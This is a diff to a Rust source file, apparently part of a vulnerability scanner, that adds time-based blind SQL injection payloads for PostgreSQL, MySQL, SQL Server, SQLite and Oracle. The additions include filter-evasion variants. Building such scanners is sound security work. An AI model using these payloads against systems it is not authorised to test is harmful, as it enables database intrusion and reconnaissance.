@@ -170,35 +170,47 @@ macro_rules! sqlite {
 }
 
 /// What waits within a string, in each database's own way; `{t}` are seconds.
-pub(super) const STRINGS: [&str; 5] = [
+pub(super) const STRINGS: [&str; 8] = [
     concat!("{v}'||", postgres!(), "||'"),
     concat!("{v}'-", mysql!(), "-'"),
     "{v}';SELECT pg_sleep({t})-- ",
     "{v}';WAITFOR DELAY '0:0:{t}'-- ",
     concat!("{v}'||", sqlite!(), "||'"),
+    // Where what follows the string asks for a type that no longer text has, as dates and lists do.
+    "{v}' AND 1=(SELECT 1 FROM pg_sleep({t}))-- ",
+    "{v}');WAITFOR DELAY '0:0:{t}'-- ",
+    // Where a filter takes away the words of queries, or blanks.
+    "{v}'/**/aNd/**/sLeEp({t})/**/aNd/**/'1'='1",
 ];
 
 /// The same, one for each database.
 pub(super) const LOGGED: [&str; 4] = [STRINGS[0], STRINGS[1], STRINGS[3], STRINGS[4]];
 
 /// What waits in place of a number, or behind the last of several.
-const NUMBERS: [&str; 5] = [
+const NUMBERS: [&str; 9] = [
     "{v}-(SELECT(0)FROM(SELECT(pg_sleep({t})))zq)",
     concat!("{v}-", mysql!()),
     "{v};SELECT pg_sleep({t})-- ",
     "{v};WAITFOR DELAY '0:0:{t}'-- ",
     "{v}-(WITH/**/RECURSIVE/**/zq(x)AS(SELECT/**/1/**/UNION/**/ALL/**/SELECT/**/x+1/**/FROM/**/zq/**/LIMIT/**/1+{t}*6000000)SELECT/**/0*count(*)FROM/**/zq)",
+    // Not well-formed in PHP, which has the same words.
+    "{v}/**/aNd/**/sLeEp({t})/**/iS/**/nOt/**/nUlL",
+    "{v});WAITFOR DELAY '0:0:{t}'-- ",
+    "{v});SELECT pg_sleep({t})-- ",
+    "{v}-(SELECT DBMS_PIPE.RECEIVE_MESSAGE('zq',{t}) FROM DUAL)",
 ];
 
 /// What waits behind the name of a column, or behind `ASC` and `DESC`: without quotes and within those of each database. What
 /// stands in the comment of the second is for strings in double quotes.
-const NAMES: [&str; 6] = [
+const NAMES: [&str; 8] = [
     concat!("{v},", postgres!()),
     concat!("{v},", mysql!(), "/*\"-", mysql!(), "-\"*/"),
     concat!("{v},", sqlite!()),
     concat!("{v}\"||", postgres!(), "||\"{v}"),
     concat!("{v}`-", mysql!(), "-`{v}"),
     concat!("{v}\"||", sqlite!(), "||\"{v}"),
+    "{v};WAITFOR DELAY '0:0:{t}'-- ",
+    "{v},(SELECT DBMS_PIPE.RECEIVE_MESSAGE('zq',{t}) FROM DUAL)",
 ];
 
 /// What waits, in each database's own way; `{t}` are seconds.
